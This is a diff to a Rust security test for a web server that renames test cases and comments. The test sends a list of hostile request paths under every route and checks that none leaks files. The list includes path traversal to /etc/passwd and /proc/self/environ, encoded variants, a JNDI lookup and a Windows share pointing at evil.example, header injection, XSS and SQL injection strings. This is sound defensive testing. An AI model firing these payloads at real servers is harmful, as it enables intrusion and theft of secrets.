@@ -1,9 +1,9 @@
-//! Targets that would lead out of the site in other programs, tried below every route.
+//! Paths that escape the web root in other software, tried under every route.
 
 use super::{Row, each, expect};
 use crate::server::Server;
 
-/// Where a path is tried, and the type of what is missing there.
+/// Routes, and the content type of their 404 response.
 const ROUTES: [(&str, &str); 8] = [
     ("", "text/html; charset=utf-8"),
     ("/news", "text/html; charset=utf-8"),
@@ -15,7 +15,7 @@ const ROUTES: [(&str, &str); 8] = [
     ("/api", "application/json"),
 ];
 
-/// What a page, a file, a database or a log of ours or of the system would betray itself by.
+/// Texts that reveal a file of the system, the project or the server.
 const SECRETS: [&str; 6] = [
     "root:x:",
     "[package]",
@@ -25,38 +25,50 @@ const SECRETS: [&str; 6] = [
     "src/",
 ];
 
-/// What must come of a path.
+/// The expected outcome of a path.
 #[derive(Clone, Copy)]
 pub enum Outcome {
-    /// There is nothing: 404, of the route's own kind.
+    /// 404 with the content type of the route.
     Missing,
-    /// It is no target at all: 400.
-    NoTarget,
+    /// 400: not a valid request target.
+    InvalidTarget,
 }
-use Outcome::{Missing, NoTarget};
+use Outcome::{InvalidTarget, Missing};
 
-/// What is put behind the route.
+/// Paths to append to the route.
 pub fn rows() -> Vec<Row<(&'static [u8], Outcome)>> {
     vec![
-        ("plain steps up", (b"/../../../../etc/passwd", Missing)),
-        ("steps up to our own sources", (b"/../Cargo.toml", Missing)),
-        ("steps up to the database", (b"/../standfast.db", Missing)),
         (
-            "steps up to the environment",
+            "plain parent segments",
+            (b"/../../../../etc/passwd", Missing),
+        ),
+        (
+            "parent segments to the project's sources",
+            (b"/../Cargo.toml", Missing),
+        ),
+        (
+            "parent segments to the database",
+            (b"/../standfast.db", Missing),
+        ),
+        (
+            "parent segments to the environment",
             (b"/../../proc/self/environ", Missing),
         ),
         (
-            "a step up from a file",
+            "a parent segment after a file",
             (b"/brand/../../etc/passwd", Missing),
         ),
-        ("a step in place", (b"/./././etc/passwd", Missing)),
+        (
+            "a current-directory segment",
+            (b"/./././etc/passwd", Missing),
+        ),
         ("encoded dots", (b"/%2e%2e/%2e%2e/etc/passwd", Missing)),
         (
             "encoded dots in capitals",
             (b"/%2E%2E/%2E%2E/etc/passwd", Missing),
         ),
         (
-            "one encoded dot of two",
+            "one of two dots encoded",
             (b"/.%2e/.%2e/etc/passwd", Missing),
         ),
         ("encoded slashes", (b"/..%2f..%2fetc%2fpasswd", Missing)),
@@ -78,7 +90,7 @@ pub fn rows() -> Vec<Row<(&'static [u8], Outcome)>> {
         ),
         ("backslashes", (b"/..\\..\\windows\\win.ini", Missing)),
         (
-            "encoding of IIS",
+            "IIS %u encoding",
             (b"/%u002e%u002e%u2215etc%u2215passwd", Missing),
         ),
         (
@@ -98,100 +110,94 @@ pub fn rows() -> Vec<Row<(&'static [u8], Outcome)>> {
             (b"/%f0%80%80%ae/etc/passwd", Missing),
         ),
         (
-            "overlong bytes as they are",
-            (b"/\xc0\xae\xc0\xae/etc/passwd", NoTarget),
+            "raw overlong bytes",
+            (b"/\xc0\xae\xc0\xae/etc/passwd", InvalidTarget),
         ),
         (
-            "dots of full width",
+            "full-width dots",
             (b"/%ef%bc%8e%ef%bc%8e/etc/passwd", Missing),
         ),
         (
-            "a slash of a division",
+            "a division slash",
             (b"/..%e2%88%95etc%e2%88%95passwd", Missing),
         ),
         ("a surrogate", (b"/%ed%a0%80", Missing)),
-        ("a byte that is no UTF-8", (b"/\xff", NoTarget)),
+        ("a byte that is not UTF-8", (b"/\xff", InvalidTarget)),
         (
-            "an encoded zero behind a type",
+            "an encoded NUL after an extension",
             (b"/etc/passwd%00.webp", Missing),
         ),
         (
-            "an encoded zero before a type",
+            "an encoded NUL before an extension",
             (b"/brand/favicon%00.svg", Missing),
         ),
-        ("a zero", (b"/etc/passwd\0.webp", NoTarget)),
+        ("a NUL", (b"/etc/passwd\0.webp", InvalidTarget)),
         (
             "doubled dots and slashes",
             (b"/....//....//etc/passwd", Missing),
         ),
         ("dots with a parameter", (b"/..;/..;/etc/passwd", Missing)),
         ("an absolute path", (b"//etc/passwd", Missing)),
-        ("a drive", (b"/C:/windows/win.ini", Missing)),
-        ("an address of a file", (b"/file:///etc/passwd", Missing)),
-        (
-            "a share of Windows",
-            (b"/%5c%5cevil.example%5cshare", Missing),
-        ),
-        ("a stream of NTFS", (b"/brand/favicon.svg::$DATA", Missing)),
-        (
-            "a short name of Windows",
-            (b"/BRAND~1/favicon.svg", Missing),
-        ),
+        ("a drive letter", (b"/C:/windows/win.ini", Missing)),
+        ("a file URL", (b"/file:///etc/passwd", Missing)),
+        ("a Windows share", (b"/%5c%5cevil.example%5cshare", Missing)),
+        ("an NTFS stream", (b"/brand/favicon.svg::$DATA", Missing)),
+        ("a Windows short name", (b"/BRAND~1/favicon.svg", Missing)),
         ("a trailing dot", (b"/brand/favicon.svg.", Missing)),
         ("a trailing space", (b"/brand/favicon.svg%20", Missing)),
-        ("a compressed variant", (b"/brand/favicon.svg.br", Missing)),
+        ("a precompressed file", (b"/brand/favicon.svg.br", Missing)),
         ("a hidden file", (b"/.env", Missing)),
-        ("a repository", (b"/.git/config", Missing)),
+        ("a Git repository", (b"/.git/config", Missing)),
         (
-            "a parameter instead of a path",
+            "a query instead of a path",
             (b"/x?file=../../etc/passwd", Missing),
         ),
         ("an encoded header", (b"/%0d%0aSet-Cookie:%20a=b", Missing)),
         (
-            "an encoded line of a log",
+            "an encoded log line",
             (b"/x%0a127.0.0.1%20GET%20/admin", Missing),
         ),
-        ("an escape for a terminal", (b"/%1b%5b2J", Missing)),
+        ("a terminal escape", (b"/%1b%5b2J", Missing)),
         (
             "an encoded script",
             (b"/%3Cscript%3Ealert(1)%3C/script%3E", Missing),
         ),
-        ("a script", (b"/<script>alert(1)</script>", NoTarget)),
-        ("a template", (b"/${jndi:ldap://evil.example/a}", Missing)),
-        ("a percent sign alone", (b"/%", Missing)),
-        ("an encoding that is none", (b"/%zz%2", Missing)),
+        ("a script", (b"/<script>alert(1)</script>", InvalidTarget)),
         (
-            "a turned reading direction",
-            (b"/%e2%80%aegvs.exe", Missing),
+            "a JNDI lookup",
+            (b"/${jndi:ldap://evil.example/a}", Missing),
         ),
-        ("a statement of SQL", (b"/'%20or%201=1--", Missing)),
-        ("a format", (b"/%25s%25n%25n", Missing)),
+        ("a lone percent sign", (b"/%", Missing)),
+        ("an invalid encoding", (b"/%zz%2", Missing)),
+        ("a right-to-left override", (b"/%e2%80%aegvs.exe", Missing)),
+        ("an SQL statement", (b"/'%20or%201=1--", Missing)),
+        ("a format string", (b"/%25s%25n%25n", Missing)),
     ]
 }
 
 #[test]
-fn no_path_leads_out_of_the_site_below_any_route() {
+fn no_path_escapes_the_site_under_any_route() {
     let server = Server::start(&["--demo"]);
     for (route, missing) in ROUTES {
         each(
-            &format!("paths below {route}"),
+            &format!("paths under {route}"),
             &rows(),
             |(path, outcome)| {
                 let start = format!("GET {route}");
                 let end = b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n";
-                let answer = server.raw(&[start.as_bytes(), path, end].concat());
+                let response = server.raw(&[start.as_bytes(), path, end].concat());
                 let status = match outcome {
                     Missing => "HTTP/1.1 404",
-                    NoTarget => "HTTP/1.1 400",
+                    InvalidTarget => "HTTP/1.1 400",
                 };
-                expect(&answer.get(..12).unwrap_or_default(), &status)?;
-                if let Some(secret) = SECRETS.iter().find(|secret| answer.contains(**secret)) {
-                    return Err(format!("{secret} is in {answer}"));
+                expect(&response.get(..12).unwrap_or_default(), &status)?;
+                if let Some(secret) = SECRETS.iter().find(|secret| response.contains(**secret)) {
+                    return Err(format!("{secret} is in {response}"));
                 }
-                if matches!(outcome, NoTarget) {
+                if matches!(outcome, InvalidTarget) {
                     return Ok(());
                 }
-                let head = answer.split("\r\n\r\n").next().unwrap_or_default();
+                let head = response.split("\r\n\r\n").next().unwrap_or_default();
                 let sent = |name: &str| {
                     let mut lines = head.lines();
                     lines.find_map(|line| line.strip_prefix(&format!("{name}: ")))
@@ -200,9 +206,9 @@ fn no_path_leads_out_of_the_site_below_any_route() {
                 expect(&sent("x-content-type-options"), &Some("nosniff"))?;
                 expect(&sent("location"), &None)?;
                 expect(&sent("set-cookie"), &None)?;
-                let told = String::from_utf8_lossy(&path[1..]).into_owned();
-                match told.len() > 4 && answer.contains(&told) {
-                    true => Err(format!("the path is told again: {answer}")),
+                let echo = String::from_utf8_lossy(&path[1..]).into_owned();
+                match echo.len() > 4 && response.contains(&echo) {
+                    true => Err(format!("the response contains the path: {response}")),
                     false => Ok(()),
                 }
             },
@@ -211,12 +217,12 @@ fn no_path_leads_out_of_the_site_below_any_route() {
 }
 
 #[test]
-fn a_path_of_any_length_is_missing_or_no_target() {
+fn a_long_path_gets_404_or_431() {
     let server = Server::start(&["--demo"]);
     for (length, status) in [(8_000, "HTTP/1.1 404"), (20_000, "HTTP/1.1 431")] {
         let path = "../".repeat(length / 3);
         let request = format!("GET /{path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
-        let answer = server.raw(request.as_bytes());
-        assert_eq!(&answer[..12], status, "{length}");
+        let response = server.raw(request.as_bytes());
+        assert_eq!(&response[..12], status, "{length}");
     }
 }
